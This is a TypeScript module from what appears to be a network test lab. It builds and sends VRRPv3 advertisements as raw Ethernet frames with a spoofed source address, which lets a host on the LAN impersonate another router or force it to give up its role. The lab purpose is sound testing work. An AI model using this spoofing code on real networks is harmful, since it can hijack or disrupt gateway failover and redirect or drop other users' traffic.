/**
 * A stranger on the lab LAN: sends VRRPv3/IPv4 adverts with any source
 * address (another router's, to spoof it) as whole Ethernet frames through
 * the wire addon's AF_PACKET socket, so the kernel neither checks nor
 * rewrites the source. The frame carries the sender's own MAC: with the
 * spoofed router's MAC the lab bridge would learn it on the wrong port.
 *
 * Run in its own process inside the attacker's namespace (spoofedAdvertCommand):
 *   ip netns exec NS node dist/lab/spoofed-advert.js --source 198.18.1.1 --vrid 51 --priority 0 \
 *     --addresses 198.18.1.100 [--count 1] [--interval-ms 0] [--dev eth0]
 * Prints one JSON line {sent, failed, firstAt, lastAt} (epoch ms) and exits 0,
 * or one error line and exits 2.
 */
import { createRequire } from 'node:module';
import { join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { parseArgs } from 'node:util';
import { repoRoot } from '../core/paths.js';
import { encodeVrrp, checksumValue, parseIPv4, sumWords, IPPROTO_VRRP } from '../wire/codec/index.js';
import { interfaceInfo, sendEthernetFrame } from '../wire/socket/index.js';

const VRRP_GROUP = new Uint8Array([224, 0, 0, 18]);
/** 01:00:5e + the low 23 bits of 224.0.0.18 (RFC 1112 §6.4). */
const GROUP_MAC = new Uint8Array([0x01, 0x00, 0x5e, 0x00, 0x00, 0x12]);

export interface SpoofedAdvert {
  /** The IPv4 source written in the packet (need not be ours). */
  source: Uint8Array;
  vrid: number;
  priority: number;
  /** Centiseconds. */
  intervalCs: number;
  addresses: readonly Uint8Array[];
  /** The sender's own interface MAC. */
  mac: Uint8Array;
}

/** One Ethernet frame: IPv4 (TTL 255, DSCP CS6 as keepalived) to 224.0.0.18 carrying a VRRPv3 advert. */
export function spoofedAdvertFrame(a: SpoofedAdvert): Buffer {
  const vrrp = encodeVrrp(
    { version: 3, vrid: a.vrid, priority: a.priority, maxAdvertIntervalCs: a.intervalCs, addresses: [...a.addresses] },
    { source: a.source, destination: VRRP_GROUP },
  );
  const ip = Buffer.alloc(20);
  ip[0] = 0x45;
  ip[1] = 0xc0;
  ip.writeUInt16BE(20 + vrrp.length, 2);
  ip[8] = 255;
  ip[9] = IPPROTO_VRRP;
  ip.set(a.source, 12);
  ip.set(VRRP_GROUP, 16);
  ip.writeUInt16BE(checksumValue(sumWords(ip, 0, 20), 0), 10);
  const frame = Buffer.alloc(Math.max(60, 14 + 20 + vrrp.length));
  frame.set(GROUP_MAC, 0);
  frame.set(a.mac, 6);
  frame.writeUInt16BE(0x0800, 12);
  ip.copy(frame, 14);
  vrrp.copy(frame, 34);
  return frame;
}

/** The argv (after the Node binary) that runs this file as a program, from dist/ or through tsx. */
export function spoofedAdvertCommand(args: readonly string[]): string[] {
  const here = fileURLToPath(import.meta.url);
  if (here.endsWith('.js')) return [here, ...args];
  const tsx = createRequire(join(repoRoot, 'package.json')).resolve('tsx');
  return ['--import', pathToFileURL(tsx).href, here, ...args];
}

async function main(argv: string[]): Promise<number> {
  const { values } = parseArgs({
    args: argv,
    options: {
      source: { type: 'string' },
      vrid: { type: 'string' },
      priority: { type: 'string' },
      addresses: { type: 'string', default: '' },
      'interval-cs': { type: 'string', default: '100' },
      count: { type: 'string', default: '1' },
      'interval-ms': { type: 'string', default: '0' },
      dev: { type: 'string', default: 'eth0' },
    },
  });
  const source = parseIPv4(values.source ?? '');
  const addresses = values.addresses ? values.addresses.split(',').map((t) => parseIPv4(t)) : [];
  const vrid = Number(values.vrid);
  const priority = Number(values.priority);
  const count = Math.min(Number(values.count), 1_000_000);
  const gapMs = Number(values['interval-ms']);
  if (!source || addresses.some((x) => x === null) || !(vrid >= 1 && vrid <= 255) || !(priority >= 0 && priority <= 255) || !(count >= 1) || !(gapMs >= 0)) {
    console.error('spoofed-advert: need --source IPv4, --vrid 1..255, --priority 0..255, IPv4 --addresses, --count >= 1, --interval-ms >= 0');
    return 2;
  }
  const info = interfaceInfo(values.dev);
  if (!info.ok) {
    console.error(`spoofed-advert: ${values.dev}: ${info.code}`);
    return 2;
  }
  const frame = spoofedAdvertFrame({
    source,
    vrid,
    priority,
    intervalCs: Number(values['interval-cs']),
    addresses: addresses as Uint8Array[],
    mac: info.value.mac,
  });
  let sent = 0;
  let failed = 0;
  const firstAt = Date.now();
  for (let i = 0; i < count; i++) {
    if (sendEthernetFrame(values.dev, frame).ok) sent++;
    else failed++;
    if (gapMs > 0 && i + 1 < count) await new Promise((r) => setTimeout(r, gapMs));
  }
  console.log(JSON.stringify({ sent, failed, firstAt, lastAt: Date.now() }));
  return 0;
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  process.exitCode = await main(process.argv.slice(2));
}
